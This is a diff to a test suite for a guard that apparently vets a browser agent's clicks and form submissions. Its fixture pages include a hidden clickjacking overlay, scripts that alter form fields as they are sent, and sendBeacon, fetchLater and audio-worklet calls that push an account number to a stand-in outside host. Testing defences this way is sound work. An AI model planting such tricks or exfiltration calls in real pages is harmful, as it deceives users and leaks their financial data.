@@ -3,6 +3,7 @@
 import asyncio
 import contextlib
 import json
+import re
 import time
 from collections.abc import Callable, Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -26,6 +27,7 @@ from wm_pipeline.environments.browser import any_page, sync_pages
 from wm_pipeline.environments.browser.any_page import Session, observe
 from wm_pipeline.environments.browser.chromium import find_chromium
 from wm_pipeline.guard.page import ActionRefusedError, GuardedPage, Judged
+from wm_pipeline.guard.unjudged import why_unjudged
 
 PAGE = """<!doctype html><title>Orders</title><h1>New order</h1>
 <form action="/order" method="post">
@@ -46,6 +48,18 @@ TRICKS = """<!doctype html><title>Tricks</title><p>The account is DE00 5001.</p>
 <form id="note" action="/note" method="post"><input name="text" value="5"><button>Keep</button></form>
 <form id="spa" action="/spa" method="post"><input name="x" value="5"><button>Save</button></form>
 <a href="http://elsewhere.localhost:PORT/docs" id="docs">Docs</a>
+<div id="moving"><button id="under">Details</button><a href="/other" id="over">Delete</a></div>
+<style>#moving { position: relative; width: 200px; height: 40px; } #over { position: absolute; left: -999px; }
+#under, #over { width: 200px; height: 40px; } #moving:hover #over { left: 0; top: 0; z-index: 9; }</style>
+<form id="less" action="/less" method="post"><input name="a" value="5"><input name="draft" value="yes"><button>Less</button></form>
+<form id="more" action="/more" method="post"><input name="b" value="5"><button>More</button></form>
+<form id="place" action="/place" method="post"><input name="c" value="5"><button>Place</button></form>
+<form id="kinds" action="/kinds" method="post"><input name="t" value="a b"><input name="e"><textarea name="w">1
+2</textarea><input type="checkbox" name="k" value="1" checked><input type="checkbox" name="k" value="2">
+<input type="radio" name="r" value="x"><input type="radio" name="r" value="y" checked><input type="hidden" name="h" value="7">
+<select name="m" multiple><option selected>p<option selected>q<option>z</select>
+<fieldset disabled><input name="off" value="no"></fieldset>
+<button name="do" value="all">All</button><input type="image" name="pic" value="v" alt="Picture"></form>
 <button id="plain" onclick="navigator.sendBeacon('http://elsewhere.localhost:PORT/take', 'DE00 5001')">Beacon</button>
 <button id="socket" onclick="new WebSocket('ws://elsewhere.localhost:PORT/socket')">Socket</button>
 <button id="by-and-by" onclick="setTimeout(late, 1500)">By and by</button>
@@ -59,6 +73,9 @@ const late = () => fetch("/late", {method: "POST", body: "LATE"}).catch(over).th
 leaving.onclick = () => addEventListener("pagehide", () => navigator.sendBeacon("/left", "DE00 5001"));
 wire.onsubmit = () => { fetch("/wire", {method: "POST", body: "amount=5&to=DE00", keepalive: true}); };
 note.addEventListener("formdata", (event) => event.formData.set("text", "DE00 5001"));
+less.addEventListener("formdata", (event) => event.formData.delete("draft"));
+more.addEventListener("formdata", (event) => event.formData.append("b", "5"));
+place.addEventListener("formdata", (event) => event.formData.append("amount.x", "9900"));
 spa.onsubmit = (event) => {
   event.preventDefault();
   fetch("/spa", {method: "POST", body: new URLSearchParams(new FormData(spa))});
@@ -295,6 +312,50 @@ def test_nothing_else_leaves_under_the_address_that_was_judged(
     assert orders.received == sent
 
 
+def clicked(orders: Orders, guard: Any, target: str) -> str | None:
+    """Why a click on the tricks page was refused; None: it was done."""
+
+    async def work(page: Any) -> str | None:
+        await page.goto(orders.url + "tricks")
+        try:
+            await GuardedPage(page, guard, goal="Order for Dana.").click(target)
+        except ActionRefusedError as error:
+            return error.decision.reason
+        return None
+
+    why: str | None = asyncio.run(async_pages(orders, work))
+    return why
+
+
+@pytest.mark.parametrize("target", ["#less button", "#more button", "#place button"], ids=["left out", "twice", "place"])
+def test_a_form_that_a_script_changes_as_it_is_sent_is_judged_again(orders: Orders, target: str) -> None:
+    assert clicked(orders, NoRequestGuard(), target) == "a request"
+    assert orders.received == []
+
+
+@pytest.mark.parametrize(
+    ("target", "own"), [("[name=do]", "&do=all"), ("[name=pic]", "&pic.x=&pic.y=")], ids=["button", "picture"]
+)
+def test_a_form_of_all_kinds_of_fields_is_sent_as_it_was_judged(orders: Orders, target: str, own: str) -> None:
+    assert clicked(orders, NoRequestGuard(), target) is None
+
+    ((path, body),) = orders.received
+    assert (path, re.sub(r"(pic\..=)\d+", r"\1", body)) == ("/kinds", f"t=a+b&e=&w=1%0D%0A2&k=1&r=y&h=7&m=p&m=q{own}")
+
+
+def test_a_click_that_lands_elsewhere_is_judged_again_and_not_told_as_done(orders: Orders) -> None:
+    class OpenGuard:
+        """Lets through all that can be judged."""
+
+        def decide(self, state: State, action: Action) -> Decision:
+            why = why_unjudged(state, action, trained_kinds=None)
+            return Decision(Verdict.ESCALATE if why else Verdict.EXECUTE, None if why else action, why or "", None, 1.0)
+
+    why = clicked(orders, OpenGuard(), "#under")
+
+    assert why == 'link "Delete" lies over the target, and a click would land on it'
+
+
 @both
 def test_a_form_that_a_script_sends_as_it_stands_is_sent(play: Play, orders: Orders) -> None:
     assert play(orders, [open_tricks, lambda page: page.click("#spa button")])[1] is None
@@ -446,6 +507,7 @@ IN_PLACE = {
     "window": "open('ELSEWHERE', '_blank', 'noopener')",
 }
 PAST = {
+    "audio worklet": "new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('ELSEWHERE')",
     "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('ELSEWHERE')`])))",
     "fetchLater": "fetchLater('/take', {method: 'POST', body: 'iban', activateAfter: 100})",
     "prefetch": "const l = document.createElement('link');"
@@ -501,7 +563,7 @@ def test_what_the_browser_does_not_stop_at_is_told_and_makes_the_rest_a_persons(
     told = {name for name, (_, why) in found.items() if "sent what could not be held back" in (why or "")}
 
     assert {name for name, (arrived, _) in found.items() if arrived} == told
-    assert {"shared worker", "fetchLater", "speculation"} <= told
+    assert {"audio worklet", "shared worker", "fetchLater", "speculation"} <= told
 
 
 def test_the_same_request_again_and_again_is_judged_once(orders: Orders) -> None:
